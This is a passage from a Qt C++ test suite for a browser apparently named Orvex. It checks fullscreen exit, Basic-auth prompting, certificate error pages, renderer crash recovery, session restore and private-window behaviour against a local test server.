                                  "<button id='fs' style='width:200px;height:60px' onclick='document.body.requestFullscreen()'>"
                                  "full</button></body></html>");
        server->route("/secret", [](const TestHttpServer::Request &req) {
            if (req.header("authorization") == "Basic " + QByteArray("ann:pw").toBase64())
                return TestHttpServer::Response{200, "text/html", "<title>Secret</title>"};
            return TestHttpServer::Response{401, "text/html", "<title>Denied</title>",
                                            {{"WWW-Authenticate", "Basic realm=\"<b>Zone</b>\""}}};
        });
        auto w = makeWindow(true);
        show(*w);
        BrowserWindow *tab = w->currentBrowser();
        type(*w, page("/video"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(tab, QStringLiteral("Video")), Slow);
        click(tab->webView(), "fs");
        QTRY_VERIFY_WITH_TIMEOUT(w->isPageFullScreen(), Slow);
        QVERIFY(w->addressBar()->isHidden() || !w->addressBar()->isVisible());
        QTest::keyClick(w.get(), Qt::Key_Escape);
        QTRY_VERIFY(!w->isPageFullScreen());
        QVERIFY(w->addressBar()->isVisible());
        QTRY_VERIFY_WITH_TIMEOUT(!js(tab->webView()->page(), QStringLiteral("!!document.fullscreenElement")).toBool(), Slow);
        // Leaving the page leaves its full screen.
        click(tab->webView(), "fs");
        QTRY_VERIFY_WITH_TIMEOUT(w->isPageFullScreen(), Slow);
        tab->loadUrl(server->url(QStringLiteral("/a")));
        QTRY_VERIFY_WITH_TIMEOUT(!w->isPageFullScreen(), Slow);

        // Credentials: a wrong answer is asked again, one question at a time;
        // cancelling ends it; the right one gets in.
        QStringList asked;
        int answers = 0;
        tab->page()->setCredentialsAsker([&](QWidget *, const QString &site, const QString &realm, bool proxy,
                                             QString *user, QString *password) {
            asked << site + QLatin1Char('|') + realm + QLatin1Char('|') + QString::number(proxy);
            *user = QStringLiteral("ann");
            *password = ++answers < 3 ? QStringLiteral("wrong") : QStringLiteral("pw");
            return answers != 3;
        });
        tab->loadUrl(server->url(QStringLiteral("/secret")));
        QTRY_COMPARE_WITH_TIMEOUT(answers, 3, Slow);
        QTRY_VERIFY_WITH_TIMEOUT(!tab->isLoading(), Slow);
        QCOMPARE(asked.first(), QStringLiteral("127.0.0.1|<b>Zone</b>|0"));
        QVERIFY(tab->title() != QStringLiteral("Secret"));
        tab->loadUrl(server->url(QStringLiteral("/secret")));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(tab, QStringLiteral("Secret")), Slow);

        // A bad certificate on a picture of a sound page costs the picture only.
        SelfSignedServer tls;
        QVERIFY(tls.listen(QHostAddress::LocalHost));
        server->setPage("/mixed", "<html><head><title>Mixed</title></head><body><img src='"
                                      + tls.url(QStringLiteral("/x.png")).toString().toUtf8() + "'></body></html>");
        tab->loadUrl(server->url(QStringLiteral("/mixed")));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(tab, QStringLiteral("Mixed")), Slow);
        QVERIFY(!tab->isShowingErrorPage());
        // The page's own address: an error page naming the host, Back to
        // safety by default; Continue anyway gets through, for this run.
        tab->loadUrl(tls.url(QStringLiteral("/")));
        QTRY_VERIFY_WITH_TIMEOUT(tab->isShowingErrorPage(), Slow);
        QCOMPARE(tab->errorPage()->kind(), ErrorPage::Kind::CertificateError);
        QVERIFY(tab->errorPage()->titleText().contains(QStringLiteral("127.0.0.1")));
        QVERIFY(tab->errorPage()->primaryButton()->isDefault());
        QCOMPARE(tab->errorPage()->primaryButton()->text(), QStringLiteral("Back to safety"));
        QTest::keyClick(tab->errorPage()->primaryButton(), Qt::Key_Return);
        QTRY_VERIFY_WITH_TIMEOUT(loaded(tab, QStringLiteral("Mixed")), Slow);
        QVERIFY(!tab->isShowingErrorPage());
        QCOMPARE(tls.requests, 0);
        tab->loadUrl(tls.url(QStringLiteral("/")));
        QTRY_VERIFY_WITH_TIMEOUT(tab->isShowingErrorPage(), Slow);
        QVERIFY(tab->errorPage()->secondaryButton()->isVisible());
        tab->errorPage()->secondaryButton()->click();
        QTRY_VERIFY_WITH_TIMEOUT(loaded(tab, QStringLiteral("TLS Page")), Slow);
        w->onNewTab();
        w->currentBrowser()->loadUrl(tls.url(QStringLiteral("/again")));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("TLS Page")), Slow);
        QVERIFY(!w->currentBrowser()->isShowingErrorPage());

        // A killed renderer: the crash page, and Reload brings the page back.
        BrowserWindow *current = w->currentBrowser();
        const qint64 pid = current->page()->renderProcessPid();
        QVERIFY(pid > 0);
        ::kill(pid_t(pid), SIGKILL);
        QTRY_VERIFY_WITH_TIMEOUT(current->isShowingErrorPage(), Slow);
        QCOMPARE(current->errorPage()->titleText(), QStringLiteral("This tab crashed"));
        current->errorPage()->primaryButton()->click();
        QTRY_VERIFY_WITH_TIMEOUT(loaded(current, QStringLiteral("TLS Page")), Slow);
        QVERIFY(!current->isShowingErrorPage());
    }

    // The session follows the tabs as they change, without waiting for the
    // window to close, and so do the closed tabs, across a restart.
    void sessionKeptAsYouBrowse()
    {
        auto w = makeWindow(true);
        type(*w, page("/a"));
        QTRY_COMPARE_WITH_TIMEOUT(storedUrl(0), page("/a"), 5000);
        w->onNewTab();
        type(*w, page("/b"));
        QTRY_COMPARE_WITH_TIMEOUT(storedUrl(1), page("/b"), 5000);
        w->tabs()->tabBar()->moveTab(1, 0);
        QTRY_COMPARE_WITH_TIMEOUT(storedUrl(0), page("/b"), 5000);
        w->onCloseTab(0);
        QCOMPARE(storedUrl(0), page("/a"));
        w.reset();

        w = makeWindow(true);
        QCOMPARE(w->closedTabs()->count(), 1);
        w->onReopenClosedTab();
        QCOMPARE(w->tabs()->count(), 2);
        QCOMPARE(w->tabs()->currentIndex(), 0);
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Page B")), Slow);
        QCOMPARE(w->closedTabs()->count(), 0);
    }

    // "Open link in new window" (Shift+click) opens another window; its tabs
    // are kept in the session and come back in a window of their own.
    void linkInNewWindowIsKeptInTheSession()
    {
        server->setPage("/links", "<html><head><title>Links</title></head><body style='margin:0'>"
                                  "<a id='plain' href='/b' style='display:block;height:40px'>plain</a></body></html>");
        auto w = makeWindow(true);
        show(*w);
        type(*w, page("/links"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Links")), Slow);
        click(w->currentBrowser()->webView(), "plain", Qt::LeftButton, Qt::ShiftModifier);
        QTRY_COMPARE_WITH_TIMEOUT(w->secondaryWindows().size(), 1, Slow);
        MainWindow *other = w->secondaryWindows().first();
        QTRY_VERIFY_WITH_TIMEOUT(loaded(other->currentBrowser(), QStringLiteral("Page B")), Slow);
        QCOMPARE(w->tabs()->count(), 1);
        w->saveSession();
        const QJsonArray session = QJsonDocument::fromJson(dir->readFile(QStringLiteral("session.json"))).array();
        QCOMPARE(session.size(), 2);
        QCOMPARE(session.at(1).toObject().value("window").toInt(), 1);
        QVERIFY(!session.at(0).toObject().contains("window"));
        w.reset();

        w = makeWindow(true);
        QCOMPARE(w->tabs()->count(), 1);
        QCOMPARE(w->secondaryWindows().size(), 1);
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->secondaryWindows().first()->currentBrowser(), QStringLiteral("Page B")), Slow);
        // Closed by the user, the window leaves the session.
        w->secondaryWindows().first()->close();
        w->saveSession();
        QCOMPARE(QJsonDocument::fromJson(dir->readFile(QStringLiteral("session.json"))).array().size(), 1);
    }

    // A private window: its own off-the-record profile, no history, no
    // session, behind the same kill switch; its downloads are listed for the
    // run only; closing it forgets it.
    void privateWindow()
    {
        auto w = makeWindow(true);
        QTRY_VERIFY_WITH_TIMEOUT(loaded(w->currentBrowser(), QStringLiteral("Orvex Home")), Slow);
        w->onPrivateWindow();
        QCOMPARE(w->privateWindows().size(), 1);
        QPointer<MainWindow> ghost = w->privateWindows().first();
        QVERIFY(ghost->isPrivate());
        QVERIFY(ghost->webProfile()->isOffTheRecord());
        QCOMPARE(ghost->currentBrowser()->page()->profile(), ghost->webProfile());
        const int visits = w->data()->getHistory().size();
        type(*ghost, page("/b"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded(ghost->currentBrowser(), QStringLiteral("Page B")), Slow);
        w->saveSession();
        QVERIFY(!dir->readFile(QStringLiteral("session.json")).contains("/b"));
        QCOMPARE(w->data()->getHistory().size(), visits);
        server->route("/secret.bin", [](const TestHttpServer::Request &) {
            return TestHttpServer::Response{200, "application/octet-stream", QByteArray(1024, 's'),
                                            {{"Content-Disposition", "attachment; filename=\"secret.bin\""}}};
        });
        ghost->webProfile()->setDownloadPath(dir->downloadDir());
        ghost->currentBrowser()->loadUrl(server->url(QStringLiteral("/secret.bin")));
        QTRY_COMPARE_WITH_TIMEOUT(w->downloads()->getDownloadHistory().size(), 1, Slow);
        QVERIFY(!dir->readFile(QStringLiteral("downloads.json")).contains("secret.bin"));
        setTunnel(*w, false);
        QTRY_COMPARE_WITH_TIMEOUT(ghost->addressBar()->text(), warning, Slow);
        server->clearRequests();
        type(*ghost, page("/a"));
        QTest::qWait(300);
        QCOMPARE(server->requests().size(), 0);
        ghost->close();
        QTRY_VERIFY(ghost.isNull());
        QCOMPARE(w->privateWindows().size(), 0);
    }

    // `orvexbrowser URL` with a browser running: the running one opens the
    // address in a new tab (kept in its session) and the second start is
    // over within a second.
    void secondStartHandsOver()
    {
        TempDataDir home;
        // The browser's own subscriptions are on the internet: none here.
        home.writeFile(QStringLiteral("filterlists.json"), "{\"lists\": []}");
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        QTemporaryDir runtime(QStringLiteral("/tmp/orvex-run-XXXXXX")); // socket addresses are short
        env.insert(QStringLiteral("XDG_RUNTIME_DIR"), runtime.path());
        tools->setIpOutputFromSample(QStringLiteral("openvpn-tun-up"));
        QProcess first;
        first.setProcessEnvironment(env);
        first.start(QStringLiteral(ORVEX_BROWSER_BINARY), {});
        QVERIFY(first.waitForStarted());
        const QString sockets = runtime.path() + QStringLiteral("/orvexbrowser");
        QTRY_VERIFY_WITH_TIMEOUT(!QDir(sockets).entryList(QDir::System | QDir::NoDotAndDotDot).isEmpty(), Slow);
        QProcess second;
        second.setProcessEnvironment(env);
        QElapsedTimer clock;
        clock.start();
        second.start(QStringLiteral(ORVEX_BROWSER_BINARY), {page("/b")});
        QVERIFY(second.waitForFinished(Slow));
        QCOMPARE(second.exitCode(), 0);
        QVERIFY2(clock.elapsed() < 1500, qPrintable(QString::number(clock.elapsed())));
        QTRY_VERIFY_WITH_TIMEOUT(server->requestCount("/b") == 1, Slow);
        QTRY_VERIFY_WITH_TIMEOUT(home.readFile(QStringLiteral("session.json")).contains("/b"), 5000);
        first.terminate();
        QVERIFY(first.waitForFinished(Slow));
    }
};

QTEST_MAIN(TestMainWindow)
#include "tst_mainwindow.moc"
